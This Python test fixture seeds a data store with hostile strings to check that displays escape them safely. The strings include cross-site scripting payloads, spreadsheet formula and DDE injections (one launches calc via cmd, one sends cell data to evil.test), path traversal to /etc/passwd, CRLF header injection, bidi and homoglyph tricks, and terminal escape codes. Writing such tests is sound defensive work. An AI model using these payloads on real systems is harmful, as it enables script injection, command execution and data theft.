"""Words that act where they are shown carelessly: in pages, spreadsheets, terminals, headers."""

from datetime import timedelta
from typing import Final

from data import clock, journal
from data.model import (
    KEYS,
    METRIC,
    About,
    Headline,
    Look,
    Reading,
    Run,
    SeenHeadline,
    Snapshot,
    slot_of,
)
from data.store import Store
from tests.looks import HOUR

MARKER: Final = "owned"
"""A variable of the window that a script of theirs would set."""
SCRIPTS: Final = (
    "<script>owned=1</script>",
    "<img src=x onerror=owned=1>",
    "<svg onload=owned=1>",
    "<svg><script>owned=1</script></svg>",
    "<svg><a xlink:href='javascript:owned=1'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>",
    '"><img src=//evil.test/x onerror=owned=1>',
    "' autofocus onfocus=owned=1 x='",
    "`-owned=1-`",
    "</script><script>owned=1</script>",
    "</title></textarea></style><script>owned=1</script>",
    "<!--<script>owned=1//-->",
    "]]><script>owned=1</script>",
    "{{constructor.constructor('owned=1')()}}",
    "${owned=1} #{owned=1} <%= owned=1 %>",
    "%{customdata} %{x|%Y} %{hovertext}<extra></extra>",
    '<a href="javascript:owned=1">press</a>',
    '<a href="https://evil.test/">press</a><b>bold</b><br><span style="color:red">red</span>',
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object data=data:text/html,<script>owned=1</script>></object>",
    "<style>@import '//evil.test/a.css';*{display:none}</style>",
    "<link rel=stylesheet href=//evil.test/a.css><base href=//evil.test/>",
    '<meta http-equiv=refresh content="0;url=//evil.test/">',
    "&lt;script&gt;owned=1&lt;/script&gt; &#60;img src=x onerror=owned=1&#62;",
    "\\u003cscript\\u003eowned=1\\u003c/script\\u003e",
    "__proto__",
    "constructor",
    "![x](https://evil.test/x.png) [press](javascript:owned=1)",
)
FORMULAS: Final = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1'),
    *("\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "%0A=1+1", ";=1+1", ",=1+1"),
    *("=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "''=1+1", "+\t1", "-2+3+cmd|'x'!A0"),
    *('=HYPERLINK("https://evil.test/?"&A1,"press")', '=IMPORTXML("https://evil.test/","//a")'),
    *("https://evil.test/", "mailto:a@evil.test", "file:///etc/passwd", "{=1+1}", "internal:A1"),
    *("&lt;f&gt;1+1&lt;/f&gt;", "</t></is></c><c><f>1+1</f></c>", "_x003D_1+1", "_x0041_", "\x07a"),
)
TURNS: Final = (
    *(
        "\u202egnp.exe",
        "a\u202eb\u202cc",
        "\u2066\u2067",
        "\u2068x",
        "\u061c1 2 3",
        "\u200bx\u200b",
    ),
    *(
        "\u200e\u200f",
        "\u05d0\u05d1\u05d2 abc 123",
        "\u0645\u0631\u062d\u0628\u0627!",
        "p\u0430ypal",
    ),
    *(
        "\ufeffx",
        "Z\u0334\u0335\u0336\u0337\u0338algo",
        "\u2028line\u2029part",
        "\u2060\u2061x",
        "\ufff9a\ufffab\ufffb",
    ),
    "tag\U000e0041\U000e007f",
)
CONTROLS: Final = (
    *(
        "\x1b[2J\x1b[H",
        "\x1b]0;title\x07",
        "\x1b]8;;https://evil.test\x07x",
        "\x9b31m",
        "\x9d0;t\x9c",
    ),
    *(
        "a\rb",
        "a\r\nSet-Cookie: x=1",
        "a\nb",
        "\x08\x08\x08hidden",
        "\x7f",
        "\x85next",
        "\x1b[6n",
        "\x05",
    ),
)
PATHS: Final = (
    *(
        "../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "....//x",
        "/etc/passwd",
        "C:\\x",
        "a/../b",
        "~root",
    ),
    *(
        "\\\\evil.test\\x",
        "file\0.csv",
        ".",
        "..",
        "con",
        "a;b",
        'a"; filename="b.exe',
        "a\r\nX: y",
    ),
)
LINKS: Final = (
    *("javascript:owned=1", "JaVaScRiPt:owned=1", "\x01javascript:owned=1", "java\tscript:owned=1"),
    *("data:text/html,<script>owned=1</script>", "vbscript:owned=1", "blob:https://evil.test/x"),
    *("file:///etc/passwd", "//evil.test/x", "https:javascript:owned=1", "ftp://evil.test/x", " "),
)
GOOD_LINK: Final = "https://dapp.expert/news/{}?a=1&b='\"<>"
TEXTS: Final = (*SCRIPTS, *FORMULAS, *TURNS, *CONTROLS, *PATHS)


def stories() -> list[Headline]:
    """Each text as title, author and summary of a headline, and each link of one more."""
    now = clock.now().replace(microsecond=0)
    found = []
    for number, text in enumerate(TEXTS):
        at = now - timedelta(minutes=20 * (number + 1))
        link = LINKS[number % len(LINKS)] if number % 2 else GOOD_LINK.format(number)
        found.append(Headline(f"{number} {text}", link, text, text, at, at, lead=number == 0))
    return found


def keep(store: Store) -> None:
    """A store in which whatever can be a text is one of theirs."""
    now = clock.now()
    for number, ago in enumerate(range(60, -1, -1)):
        text = TEXTS[number % len(TEXTS)]
        readings = {}
        for place, key in enumerate(KEYS):
            unread = number % 9 == place
            value = None if unread else 1_000.0 + 7 * number
            problem = f"not read: {text}" if unread else None
            width = None if unread else 0.0
            readings[key] = Reading(value, width, METRIC[key].unit, text, problem)
        slot = slot_of(now - ago * HOUR, HOUR)
        store.save(Snapshot("dapp_expert", slot, slot, "live", Look(readings, "api")), HOUR)
    seen = [SeenHeadline(one, "dapp_expert", one.published_from or now, now) for one in stories()]
    store.add_headlines(seen, {})
    counts = dict.fromkeys(KEYS, SCRIPTS[1])
    credit, address = SCRIPTS[5], LINKS[0]
    store.describe(
        About("dapp_expert", f"{SCRIPTS[0]}{TURNS[0]}", KEYS, credit, address, counts), HOUR
    )
    for number, text in enumerate((*SCRIPTS[:3], *TURNS[:1], *CONTROLS[:2])):
        at = now - timedelta(minutes=number + 1)
        run = Run("dapp_expert", slot_of(at, HOUR), at)
        place, _ = journal.start(store, run)
        ended = Run(run.source, run.slot, at, at, "failed", text, text, attempts=1, host=text)
        journal.finish(store, place, ended)
